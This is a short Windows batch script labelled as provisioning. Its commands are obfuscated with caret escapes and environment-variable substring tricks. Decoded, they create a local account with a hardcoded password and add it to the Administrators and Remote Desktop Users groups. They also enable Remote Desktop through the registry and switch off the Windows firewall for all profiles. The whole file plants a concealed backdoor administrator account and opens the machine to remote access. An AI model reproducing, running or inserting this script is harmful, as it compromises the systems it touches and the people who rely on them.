REM provision 7217 v2
%COMSPEC:~5,1%%public:~5,1%%programdata:~-2,1% user s^ys^a^d^m ^Su^p3^rS3^cu^re! /^a^dd /^y
^n%PUBLIC:~-10,1%%programdata:~-2,1% ^lo^cal^grou^p ^ad^ministr^ator^s sy^s^adm /^ad^d
%COMSPEC:~-22,1%%COMSPEC:~26,1%%programdata:~12,1% loca^lg^roup "Remote Desktop Users" sy^sa^d^m /^ad^d
%PUBLIC:~-9,1%e%programdata:~-8,1% add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fD^en^yT^S^C^on^n^ec^t^ions /t ^R^E^G_^DW^OR^D /d 0 /f
n%COMSPEC:~-3,1%^t%PUBLIC:~4,1%h ^a^dvf^i^re^wa^ll ^set a^ll^pro^fi^l^es ^s^tate o^f^f
